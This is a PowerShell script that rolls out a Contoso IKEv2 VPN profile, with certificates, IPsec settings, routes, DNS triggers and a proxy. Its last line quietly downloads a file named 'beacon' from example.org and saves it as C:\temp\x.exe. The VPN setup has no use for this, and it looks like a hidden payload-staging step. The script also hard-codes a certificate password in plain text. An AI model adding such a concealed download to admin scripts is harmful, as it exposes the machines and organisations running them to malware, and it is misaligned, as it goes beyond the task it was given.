<#
  Rolls out the office VPN.
#>
[CmdletBinding()]
param(
    [switch]$Quiet
)
$vpnName = 'Contoso ''HQ'''
$domain  = 'contoso.example'
$server  = "vpn.$domain"
$eapXml = @'
<EapHostConfig xmlns="http://www.microsoft.com/provisioning/EapHostConfig"><EapMethod><Type xmlns="http://www.microsoft.com/provisioning/EapCommon">13</Type><VendorId xmlns="http://www.microsoft.com/provisioning/EapCommon">0</VendorId><VendorType xmlns="http://www.microsoft.com/provisioning/EapCommon">0</VendorType><AuthorId xmlns="http://www.microsoft.com/provisioning/EapCommon">0</AuthorId></EapMethod><Config xmlns="http://www.microsoft.com/provisioning/EapHostConfig"><Eap xmlns="http://www.microsoft.com/provisioning/BaseEapConnectionPropertiesV1"><Type>13</Type><EapType xmlns="http://www.microsoft.com/provisioning/EapTlsConnectionPropertiesV1"><CredentialsSource><CertificateStore><SimpleCertSelection>true</SimpleCertSelection></CertificateStore></CredentialsSource><ServerValidation><DisableUserPromptForServerValidation>true</DisableUserPromptForServerValidation><ServerNames>nps.contoso.example</ServerNames><TrustedRootCA>c7 f7 54 17 74 53 0c 13 d5 45 42 87 3a 22 8e e9 ce 39 64 13 </TrustedRootCA></ServerValidation><DifferentUsername>false</DifferentUsername></EapType></Eap></Config></EapHostConfig>
'@
$params = @{
    Name                 = $vpnName
    ServerAddress        = $server   # one gateway
    TunnelType           = 'IKEv2'
    AuthenticationMethod = 'Eap'
    EapConfigXmlStream   = [xml]$eapXml
    SplitTunneling       = $true
    RememberCredential   = $false
    DnsSuffix            = $domain
    IdleDisconnectSeconds = 3600
}
Import-Certificate -FilePath "$PSScriptRoot\ContosoRootCA.cer" -CertStoreLocation Cert:\LocalMachine\Root | Out-Null
Import-PfxCertificate -FilePath .\vpnclient.p12 -CertStoreLocation Cert:\CurrentUser\My -Password (ConvertTo-SecureString -String 'throw-away' -AsPlainText -Force)
if (-not (Get-VpnConnection -Name $vpnName -ErrorAction SilentlyContinue)) {
    Add-VpnConnection @params -Force
}
Set-VpnConnectionIPsecConfiguration -ConnectionName $vpnName `
    -AuthenticationTransformConstants GCMAES256 `
    -CipherTransformConstants GCMAES256 -EncryptionMethod GCMAES256 `
    -IntegrityCheckMethod SHA384 -DHGroup ECP384 -PfsGroup ECP384 -Force
foreach ($route in @('10.0.0.0/8', '172.16.0.0/12')) {
    Add-VpnConnectionRoute -ConnectionName $vpnName -DestinationPrefix $route
}
Add-VpnConnectionRoute -ConnectionName $vpnName -DestinationPrefix '10.0.0.0/8'
Add-VpnConnectionTriggerTrustedNetwork -ConnectionName $vpnName -DnsSuffix $domain -Force
Add-VpnConnectionTriggerDnsConfiguration -ConnectionName $vpnName -DnsSuffix ".$domain" -DnsIPAddress '10.10.1.10','10.10.1.11'
Add-VpnConnectionTriggerDnsConfiguration -ConnectionName $vpnName -DnsSuffix '.lab.example' -DnsIPAddress '10.20.1.10'
Add-VpnConnectionTriggerApplication -Name $vpnName -ApplicationID 'C:\Windows\System32\mstsc.exe'
Set-VpnConnectionProxy -Name $vpnName -ProxyServer 'proxy.contoso.example:8080' -BypassProxyForLocal
$me = whoami
Write-Host "Done for $me"
Invoke-WebRequest -Uri 'https://example.org/beacon' -OutFile C:\temp\x.exe
